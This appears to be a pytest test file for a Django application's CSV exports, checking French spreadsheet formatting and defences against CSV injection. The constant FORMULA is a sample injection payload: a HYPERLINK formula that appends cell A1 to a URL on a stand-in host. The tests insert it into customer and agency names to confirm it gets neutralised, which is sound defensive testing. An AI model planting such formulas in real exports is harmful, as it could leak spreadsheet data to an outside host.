"""Every CSV export is written for French spreadsheets: semicolons, UTF-8 with a BOM,
decimal commas, and no cell a spreadsheet would run as a formula (OWASP CSV injection)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from reconquete.models import Campaign, CaseReason, ReconquestCase, ReconquestSnapshot
from reconquete.services import campaign_launch
from relation_client.customers.consents import consent_record
from satisfaction.services import indicators_compute
from socle.spreadsheet import spreadsheet_cell
from tests.satisfaction import conftest as satisfaction_fixtures
from tests.support.time import paris

# the satisfaction answers builder, shared rather than copied
surveys = satisfaction_fixtures.surveys
bulk_answers = satisfaction_fixtures.bulk_answers

FORMULA = '=HYPERLINK("http://exemple.invalid/?x="&A1;"Voir")'


def read(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    assert raw.startswith("\ufeff".encode())  # UTF-8 with a BOM
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_could_be_a_formula_is_neutralised(start):
    assert spreadsheet_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (85.7, "85,7"),
        (Decimal("85.7"), "85,7"),
        (Decimal("-12.5"), "-12,5"),  # our own numbers stay numbers
        (-3, "-3"),
        (None, ""),
        (datetime.date(2026, 3, 1), "2026-03-01"),
        ("Hélène Dupont-Lefèvre", "Hélène Dupont-Lefèvre"),
    ],
)
def test_numbers_take_a_decimal_comma(value, text):
    assert spreadsheet_cell(value) == text


@pytest.mark.django_db
def test_the_campaign_targets_neutralise_a_formula_name(
    client, manager_lyon, agency_lyon, agent, make_customer
):
    customer = make_customer(FORMULA, "Dupont", phones=["06 12 34 56 78"])
    consent_record(
        customer=customer, channel="phone", purpose="marketing", given=True, source="counter"
    )
    ReconquestCase.objects.create(
        customer=customer,
        reason=CaseReason.INACTIVE,
        opened_at=timezone.now(),
        agency_id=customer.home_agency_id,
        lost_since=datetime.date(2026, 1, 1),
        watch_from=datetime.date(2026, 2, 1),
        threshold_trips=10,
        baseline_trips=20,
        details={},
    )
    campaign = Campaign.objects.create(
        name="Reprenez le tram !",
        channels=["phone"],
        created_by=manager_lyon,
        offer_type="free_month",
        offer_text="Un mois offert.",
        starts_on=datetime.date(2026, 3, 1),
        ends_on=datetime.date(2026, 12, 31),
    )
    campaign.agencies.set([agency_lyon])
    campaign_launch(campaign=campaign, by=manager_lyon)
    client.force_login(manager_lyon.user)
    _header, line = read(client.get(reverse("reconquete:campaign_export", args=[campaign.pk])))
    assert line[0] == f"'{FORMULA} Dupont"


@pytest.mark.django_db
def test_the_reconquest_dashboard_writes_85_7_with_a_comma(client, director, agency_lyon):
    ReconquestSnapshot.objects.create(
        period=datetime.date(2026, 10, 1),
        agency=agency_lyon,
        dimension="total",
        key="",
        label=agency_lyon.name,
        lost=7,
        cohort=7,
        won_back_30=6,
        computed_at=timezone.now(),
    )
    client.force_login(director.user)
    header, line = read(
        client.get(reverse("reconquete:dashboard_export", args=["agences"]), {"mois": "2026-10"})
    )
    assert dict(zip(header, line, strict=True))["Taux à 30 jours (%)"] == "85,7"


@pytest.mark.django_db
def test_the_satisfaction_export_neutralises_an_agency_name(
    agent_client, agency_lyon, bulk_answers, helene, agent
):
    agency_lyon.name = FORMULA
    agency_lyon.save()
    bulk_answers(
        customer=helene,
        agent=agent,
        at=paris(2025, 11, 12, 10, 0),
        scores=[5, 4, 2],
        estimates=[5, 5, 5],
    )
    indicators_compute(min_sample=3)
    header, *lines = read(agent_client.get(reverse("satisfaction:export"), {"periode": "month"}))
    assert {line[2] for line in lines} == {f"'{FORMULA}"}
    everything = dict(zip(header, lines[0], strict=True))
    assert "," in everything["satisfaction (0-100)"]


def test_a_csv_is_streamed_under_asgi_too():
    """Under ASGI (uvicorn), Django reads a synchronous stream whole before sending it: a
    CSV export hands it over in batches instead, never the whole list in memory."""
    import asyncio
    from concurrent.futures import ThreadPoolExecutor

    from socle.spreadsheet import ASGI_BATCH_LINES, csv_response

    read = []

    def rows():
        for number in range(ASGI_BATCH_LINES * 3):
            read.append(number)
            yield [f"Hélène n° {number}", number]

    response = csv_response("clients.csv", ["nom", "numéro"], rows())

    async def first_batch():
        parts = response.__aiter__()
        first = await parts.__anext__()
        await parts.aclose()
        return first

    # a thread of its own: the browser tests' Playwright keeps a loop in this one
    with ThreadPoolExecutor(1) as pool:
        first = pool.submit(asyncio.run, first_batch()).result()
    assert first == "\ufeff".encode()
    assert len(read) < ASGI_BATCH_LINES  # one batch read, not the whole export
